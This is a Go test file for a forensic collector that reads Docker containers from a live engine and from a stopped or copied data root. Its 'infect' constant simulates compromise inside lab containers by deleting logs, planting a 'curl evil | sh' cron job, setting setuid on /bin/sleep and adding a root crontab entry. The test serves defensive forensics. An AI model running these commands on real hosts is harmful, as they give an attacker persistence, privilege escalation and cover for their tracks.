package dockerroot_test

import (
	"context"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/rummage-scanner/rummage/collectors"
	"github.com/rummage-scanner/rummage/collectors/docker"
	"github.com/rummage-scanner/rummage/collectors/dockerroot"
	"github.com/rummage-scanner/rummage/document"
	"github.com/rummage-scanner/rummage/testdata/lab"
)

// The tests in this file need a Docker engine on this host with the overlay2
// driver, root, and the images that testdata/lab/images makes.

const infect = `
	rm /var/log/lastlog
	rm -r /etc/cron.daily; mkdir /etc/cron.daily; echo 'curl evil | sh' >/etc/cron.daily/x
	echo secret >/root/.loot; chmod 4755 /bin/sleep
	ln -s /root/.loot /tmp/link; mkfifo /tmp/fifo
	echo "* * * * * root /tmp/x" >>/etc/crontab
`

// seen is what a subject tells.
type seen struct {
	document *document.Document
	files    map[string]string
	lines    []string
}

func collect(t testing.TB, subject collectors.Subject) seen {
	t.Helper()
	defer subject.Close()
	s := seen{files: map[string]string{}}
	var err error
	if s.document, err = subject.Document(t.Context()); err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	err = subject.Files(t.Context(), func(f collectors.File) error {
		text, err := io.ReadAll(io.LimitReader(f.Content, 64))
		mu.Lock()
		defer mu.Unlock()
		s.files[f.Change.Path] = string(text)
		if f.Was != nil {
			was, _ := io.ReadAll(io.LimitReader(f.Was, 64))
			s.files[f.Change.Path+" was"] = string(was)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	err = subject.Logs(t.Context(), func(l collectors.LogLine) error {
		s.lines = append(s.lines, l.Time.Format(time.RFC3339Nano)+" "+l.Stream+" "+string(l.Text))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func live(t testing.TB, name string) seen {
	t.Helper()
	c, err := docker.Connect(t.Context(), docker.Options{MaxFileSize: 32 << 20})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	subject, err := c.Open(t.Context(), collectors.Target{Name: name})
	if err != nil {
		t.Fatal(err)
	}
	return collect(t, subject)
}

func dead(t testing.TB, dir, name string) seen {
	t.Helper()
	root, err := dockerroot.Open(dir, dockerroot.Options{MaxFileSize: 32 << 20})
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	subject, err := root.OpenContainer(context.Background(), name)
	if err != nil {
		t.Fatal(err)
	}
	return collect(t, subject)
}

func dataRoot(t testing.TB) string { return lab.Docker(t, "info", "-f", "{{.DockerRootDir}}") }

// equal holds a dead container against the same one of its engine.
func equal(t *testing.T, dead, live seen) {
	t.Helper()
	// What only an engine tells, and when it was asked.
	live.document.Engine, live.document.Host = nil, nil
	live.document.CollectedAt = dead.document.CollectedAt
	for _, s := range []seen{dead, live} {
		s.document.Coverage = slices.DeleteFunc(s.document.Coverage, func(c document.Coverage) bool { return c.Collector == "engine" })
	}
	if image := live.document.Image; image != nil {
		// The engine takes a layer without bytes for none.
		for i := range image.History {
			image.History[i].EmptyLayer = dead.document.Image.History[i].EmptyLayer
			if s := time.Second; image.History[i].Created.Truncate(s).Equal(dead.document.Image.History[i].Created.Truncate(s)) {
				image.History[i].Created = dead.document.Image.History[i].Created
			}
		}
	}
	if d := cmp.Diff(live.document, dead.document); d != "" {
		t.Errorf("document: - live, + dead:\n%s", d)
	}
	if d := cmp.Diff(live.files, dead.files); d != "" {
		t.Errorf("files: - live, + dead:\n%s", d)
	}
	if d := cmp.Diff(live.lines, dead.lines); d != "" {
		t.Errorf("log: - live, + dead:\n%s", d)
	}
}

// TestStopped has of a stopped container what its engine has of it.
func TestStopped(t *testing.T) {
	for name, args := range map[string][]string{
		"json-file":     {},
		"json-file gz":  {"--log-opt", "max-size=2k", "--log-opt", "max-file=5", "--log-opt", "compress=true"},
		"local":         {"--log-driver", "local"},
		"local rotated": {"--log-driver", "local", "--log-opt", "max-size=4k", "--log-opt", "max-file=5"},
		"terminal":      {"-t"},
		"set up": {
			"-v", "rummage-test-dockerroot:/data", "-v", "/etc:/host:ro", "--tmpfs", "/scratch", "-e", "TOKEN=x", "--cap-add", "NET_ADMIN",
			"--pids-limit", "64", "--security-opt", "no-new-privileges", "--restart", "no", "--label", "a=b", "--health-cmd", "true", "-p", "127.0.0.1:18999:80",
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if name == "set up" {
				t.Cleanup(func() { lab.Docker(t, "volume", "rm", "-f", "rummage-test-dockerroot") })
			}
			container := lab.Run(t, append(args, lab.Debian, "sh", "-c",
				`i=0; while [ $i -lt 100 ]; do echo "line $i of the log"; i=$((i+1)); done; echo oops >&2; printf unended; sleep 0.1; sleep 1000`)...)
			lab.Shell(t, container, infect)
			lab.Docker(t, "stop", "-t", "0", container)
			lab.Await(t, container, "exited")
			equal(t, dead(t, dataRoot(t), container), live(t, container))
		})
	}
}

// TestCreated has a container that never ran.
func TestCreated(t *testing.T) {
	container := lab.Create(t, lab.Busybox, "true")
	got := dead(t, dataRoot(t), lab.Docker(t, "inspect", "-f", "{{.Id}}", container)[:16])
	equal(t, got, live(t, container))
	if got.document.Config.State.Status != "created" {
		t.Errorf("state %s", got.document.Config.State.Status)
	}
}

// TestCopied reads what a responder copied of a data root, by no path of the
// host that it comes from.
func TestCopied(t *testing.T) {
	container := lab.Run(t, lab.Busybox, "sh", "-c", "echo hello; sleep 1000")
	lab.Shell(t, container, "rm -r /var; mkdir /var; echo x >/var/y; echo z >/z")
	lab.Docker(t, "stop", "-t", "0", container)
	id := lab.Docker(t, "inspect", "-f", "{{.Id}}", container)
	from, to := dataRoot(t), t.TempDir()
	root, err := dockerroot.Open(from, dockerroot.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	listed, err := root.Containers(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	mount := ""
	for _, l := range listed {
		if l.Target.ID == id {
			mount = l.MountID
		}
	}
	parts := []string{"containers/" + id, "image", "overlay2/" + mount, "overlay2/l"}
	lower, err := os.ReadFile(filepath.Join(from, "overlay2", mount, "lower"))
	if err != nil {
		t.Fatal(err)
	}
	for link := range strings.SplitSeq(string(lower), ":") {
		target, err := os.Readlink(filepath.Join(from, "overlay2", link))
		if err != nil {
			t.Fatal(err)
		}
		parts = append(parts, filepath.Dir(filepath.Join("overlay2/l", target)))
	}
	copyAll(t, from, to, parts)
	// As the engine made it long ago.
	long := time.Now().Add(-time.Hour)
	for _, name := range []string{
		"overlay2/" + mount + "/link", "overlay2/" + mount + "/lower", "containers/" + id + "/config.v2.json", "containers/" + id + "/hostconfig.json",
	} {
		if err := os.Chtimes(filepath.Join(to, name), long, long); err != nil {
			t.Fatal(err)
		}
	}
	got, want := dead(t, to, container), live(t, container)
	for i := range want.document.Changes {
		want.document.Changes[i].Ctime = time.Time{}
	}
	copied := func(c document.Coverage) bool { return strings.HasPrefix(c.Reason, "the data root is a copy") }
	if !slices.ContainsFunc(got.document.Coverage, copied) {
		t.Errorf("it does not say that it is a copy: %v", got.document.Coverage)
	}
	got.document.Coverage = slices.DeleteFunc(got.document.Coverage, copied)
	equal(t, got, want)
}
